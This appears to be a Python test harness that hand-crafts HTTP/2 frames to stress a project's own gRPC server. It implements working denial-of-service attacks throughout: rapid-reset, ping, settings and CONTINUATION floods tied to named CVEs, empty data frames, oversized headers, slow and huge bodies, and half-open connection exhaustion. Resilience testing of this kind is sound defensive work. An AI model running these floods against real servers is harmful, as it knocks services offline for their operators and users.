"""An attacker of a gRPC server: frames of HTTP/2 that no gRPC client sends, made by hand.

Run in a process of its own: ``python -m tests.http2 HOST:PORT ATTACK SECONDS [TOKEN]``. Frames
are those of RFC 9113, headers are literals of RFC 7541.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
METHOD: Final = "/dbp.v1.JobService/ListJobs"
WATCH: Final = "/dbp.v1.JobService/WatchJobs"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return (
        struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
    )


def literal(name: str, value: str) -> bytes:
    """One header, not indexed and not compressed."""
    return b"\0" + b"".join(_length(len(t)) + t.encode() for t in (name, value))


def _length(number: int) -> bytes:
    """An integer with a prefix of 7 bits."""
    if number < 127:
        return bytes([number])
    rest, number = [127], number - 127
    while number >= 128:
        rest.append(number % 128 + 128)
        number //= 128
    return bytes([*rest, number])


def request(path: str, token: str, extra: Iterable[tuple[str, str]] = ()) -> bytes:
    """The headers of a gRPC call."""
    found = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "dbp"),
        ("content-type", "application/grpc"), ("te", "trailers"), *extra,
    ]  # fmt: skip
    if token:
        found.append(("authorization", f"Bearer {token}"))
    return b"".join(literal(*header) for header in found)


class Connection:
    """One connection; what the server sends is dropped, but for its end."""

    def __init__(self, address: str, *, preface: bool = True) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.closed = threading.Event()
        self.ended = 0  # streams that the server has ended
        self._next = 1
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, data: bytes) -> None:
        """Send bytes; ConnectionError once the server has closed the connection."""
        if self.closed.is_set():
            raise ConnectionError("closed by the server")
        self.socket.sendall(data)

    def stream(self) -> int:
        """The number of a new stream."""
        self._next += 2
        return self._next - 2

    def _read(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.settimeout(None)
            with self.socket.makefile("rb") as file:
                while len(head := file.read(9)) == 9:
                    size = int.from_bytes(head[:3], "big")
                    file.read(size)
                    kind, flags = head[3], head[4]
                    if kind == SETTINGS and not flags & 1:
                        self.send(frame(SETTINGS, 1, 0))
                    elif kind == RESET or (kind in (DATA, HEADERS) and flags & END_STREAM):
                        self.ended += 1
        self.closed.set()


def message(size: int) -> bytes:
    """The beginning of a gRPC message of this size."""
    return b"\0" + struct.pack(">I", size)


def reset_flood(connection: Connection, token: str) -> None:
    """Open streams and reset them at once (CVE-2023-44487)."""
    head = request(METHOD, token)
    batch = b""
    for _ in range(50):
        number = connection.stream()
        batch += frame(HEADERS, END_HEADERS, number, head)
        batch += frame(DATA, END_STREAM, number, message(0))
        batch += frame(RESET, 0, number, struct.pack(">I", 8))
    connection.send(batch)


def ping_flood(connection: Connection, token: str) -> None:
    """Send pings."""
    connection.send(frame(PING, 0, 0, b"dbp-ping") * 500)


def settings_flood(connection: Connection, token: str) -> None:
    """Send settings, each of which is acknowledged (CVE-2019-9515)."""
    connection.send(frame(SETTINGS, 0, 0) * 500)


def continuation_flood(connection: Connection, token: str) -> None:
    """Send headers without an end (CVE-2024-27316)."""
    number = connection.stream()
    connection.send(frame(HEADERS, 0, number, request(METHOD, token)))
    for _ in range(500):
        piece = literal("x", "y" * 8_000)
        connection.send(frame(CONTINUATION, 0, number, piece))


def empty_frames(connection: Connection, token: str) -> None:
    """Send empty frames of data (CVE-2019-9518)."""
    number = connection.stream()
    connection.send(frame(HEADERS, END_HEADERS, number, request(METHOD, token)))
    connection.send(frame(DATA, 0, number) * 2_000)


def large_headers(connection: Connection, token: str) -> None:
    """Send headers of 64 KiB."""
    number = connection.stream()
    block = request(METHOD, token, [(f"x-{i}", "y" * 8_000) for i in range(8)])
    pieces = [block[i : i + 16_000] for i in range(0, len(block), 16_000)]
    sent = frame(HEADERS, END_STREAM, number, pieces[0])
    for piece in pieces[1:-1]:
        sent += frame(CONTINUATION, 0, number, piece)
    connection.send(sent + frame(CONTINUATION, END_HEADERS, number, pieces[-1]))


def slow_bodies(connection: Connection, token: str) -> None:
    """Announce messages and send a byte at a time."""
    numbers = [connection.stream() for _ in range(100)]
    for number in numbers:
        head = frame(HEADERS, END_HEADERS, number, request(METHOD, token))
        connection.send(head + frame(DATA, 0, number, message(1_000)))
    while not connection.closed.is_set():
        time.sleep(0.5)
        for number in numbers:
            connection.send(frame(DATA, 0, number, b"\0"))


def huge_bodies(connection: Connection, token: str) -> None:
    """Send as much of bodies of 31 MB as the server takes."""
    numbers = [connection.stream() for _ in range(100)]
    for number in numbers:
        head = frame(HEADERS, END_HEADERS, number, request(METHOD, token))
        connection.send(head + frame(DATA, 0, number, message(31 << 20)))
    while not connection.closed.is_set():
        for number in numbers:
            connection.send(frame(DATA, 0, number, bytes(16_000)))


ATTACKS: Final[dict[str, Callable[[Connection, str], None]]] = {
    attack.__name__: attack
    for attack in (
        reset_flood, ping_flood, settings_flood, continuation_flood, empty_frames,
        large_headers, slow_bodies, huge_bodies,
    )
}  # fmt: skip


def half_open(address: str, seconds: float) -> int:
    """Open connections that say nothing; return how many the server has closed."""
    opened = []
    for _ in range(2_000):
        with contextlib.suppress(OSError):
            opened.append(Connection(address, preface=False))
    time.sleep(seconds)
    return sum(connection.closed.is_set() for connection in opened)


def attack(address: str, name: str, seconds: float, token: str) -> None:
    """Attack from 4 connections, and from new ones in place of those that were closed."""
    end = time.monotonic() + seconds
    made: list[Connection] = []
    rounds = 0

    def one() -> None:
        nonlocal rounds
        while time.monotonic() < end:
            try:
                made.append(connection := Connection(address))
                while time.monotonic() < end:
                    ATTACKS[name](connection, token)
                    rounds += 1
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(4)]
    for thread in threads:
        thread.start()
    print("started", flush=True)
    time.sleep(max(0.0, end - time.monotonic()))
    print(json.dumps({"connections": len(made), "rounds": rounds}), flush=True)


if __name__ == "__main__":
    target, which, duration, *rest = sys.argv[1:]
    if which == "half_open":
        print("started", flush=True)
        print(json.dumps({"closed": half_open(target, float(duration))}))
    else:
        attack(target, which, float(duration), rest[0] if rest else "")
